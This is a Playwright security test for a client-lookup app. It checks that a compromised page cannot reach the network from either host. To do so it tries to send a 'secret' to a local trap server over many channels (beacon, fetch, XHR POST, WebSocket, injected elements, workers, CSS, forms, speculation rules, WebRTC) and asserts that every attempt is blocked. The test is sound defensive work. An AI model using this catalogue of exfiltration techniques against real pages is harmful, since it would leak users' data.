// Nothing leaves: a page that had been turned against its person tries every way out there is, in a real Chromium, and none works.
import { expect, test } from "../support/drivers/app.ts";
import { openTrap } from "../support/rigs/network-trap.ts";

// In real time: what is shipped, with nothing replaced in the page.
test.use({ clock: "real" });

test("no way out of the page reaches anybody, in either host", async ({ page, host, hostName }) => {
  await page.goto(host.url);
  await expect(page.getByRole("textbox", { name: "Client code or name" })).toBeVisible();
  const trap = await openTrap();
  const tried = await page.evaluate(async (address) => {
    const http = `http://${address}/secret`;
    /** Some attempts fail aloud and some say nothing at all: what has not gone through within a moment counts as stopped; the trap knows. */
    const attempt = (name: string, work: () => Promise<unknown>): Promise<string> =>
      Promise.race([
        Promise.resolve()
          .then(work)
          .then(
            () => `${name} went through`,
            () => name,
          ),
        new Promise<string>((resolve) => AbortSignal.timeout(3_000).addEventListener("abort", () => resolve(name))),
      ]);
    const loads = (made: EventTarget, event = "load"): Promise<unknown> =>
      new Promise((resolve, reject) => {
        made.addEventListener(event, resolve);
        made.addEventListener("error", reject);
      });
    const element = (name: string, tag: string, set: Record<string, string>): Promise<string> =>
      attempt(`${tag} ${name}`, () => {
        const made = document.createElement(tag);
        for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
        document.body.append(made);
        return loads(made, tag === "video" ? "loadeddata" : "load");
      });
    const send = async (): Promise<void> => {
      if (!navigator.sendBeacon(http, "secret")) throw new Error("refused");
    };
    // A beacon is queued whatever becomes of it.
    await attempt("beacon", send);
    return Promise.all([
      attempt("fetch", () => fetch(http)),
      attempt("fetch without cors", () => fetch(http, { mode: "no-cors", keepalive: true })),
      attempt("xhr", () => {
        const request = new XMLHttpRequest();
        request.open("POST", http);
        request.send("secret");
        return loads(request);
      }),
      attempt("web socket", () => loads(new WebSocket(`ws://${address}/`), "open")),
      attempt("event source", () => loads(new EventSource(http), "open")),
      attempt("web transport", () => new WebTransport(`https://${address}/`).ready),
      element("picture", "img", { src: http }),
      element("script", "script", { src: http }),
      element("sheet", "link", { rel: "stylesheet", href: http }),
      element("preload", "link", { rel: "preload", as: "image", href: http }),
      element("module", "link", { rel: "modulepreload", href: http }),
      element("prefetch", "link", { rel: "prefetch", href: http }),
      element("name", "link", { rel: "dns-prefetch", href: http }),
      element("connection", "link", { rel: "preconnect", href: http }),
      element("manifest", "link", { rel: "manifest", href: http }),
      element("icon", "link", { rel: "icon", href: http }),
      element("video", "video", { src: http, preload: "auto" }),
      attempt("import", () => import(http)),
      attempt("worker", () => {
        const source = URL.createObjectURL(new Blob([`fetch("${http}").then(() => postMessage(1))`]));
        return loads(new Worker(source), "message");
      }),
      attempt("service worker", () => navigator.serviceWorker.register(http)),
      attempt("font", () => new FontFace("x", `url(${http})`).load()),
      attempt("style", async () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { background: url(${http}) }`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
        throw new Error("only the trap knows");
      }),
      attempt("form", async () => {
        const form = document.createElement("form");
        form.action = http;
        form.method = "post";
        document.body.append(form);
        form.submit();
        throw new Error("only the trap knows");
      }),
      attempt("speculation", async () => {
        const rules = document.createElement("script");
        rules.type = "speculationrules";
        rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [http] }] });
        document.head.append(rules);
        throw new Error("only the trap knows");
      }),
      // WebRTC has its own way to the network, which connect-src does not cover.
      attempt("webrtc", async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] });
        peer.createDataChannel("x");
        const gathered = new Promise<void>((resolve) =>
          peer.addEventListener("icegatheringstatechange", () => peer.iceGatheringState === "complete" && resolve()),
        );
        await peer.setLocalDescription(await peer.createOffer());
        await gathered;
        throw new Error("only the trap knows");
      }),
    ]);
  }, trap.address);
  expect(tried.filter((line) => line.endsWith("went through"))).toEqual([]);
  expect(tried.length).toBeGreaterThan(20);
  // The trap does hear: it is asked last, and hears that.
  await fetch(`http://${trap.address}/from-the-test`);
  await trap.close();
  const requests = trap.heard.filter((line) => line !== "tcp: a connection" && line !== "udp: 20 bytes");
  expect(requests).toEqual(["tcp: GET /from-the-test HTTP/1.1"]);
  // No policy of a page keeps an ordinary browser from greeting an address (preconnect, WebRTC's empty 20 bytes); that the page's own
  // code never does is watched in every other story (support/drivers/page-watch.ts). The desktop app's network is off: not even a greeting leaves.
  if (hostName !== "browser") expect(trap.heard).toHaveLength(2);
});
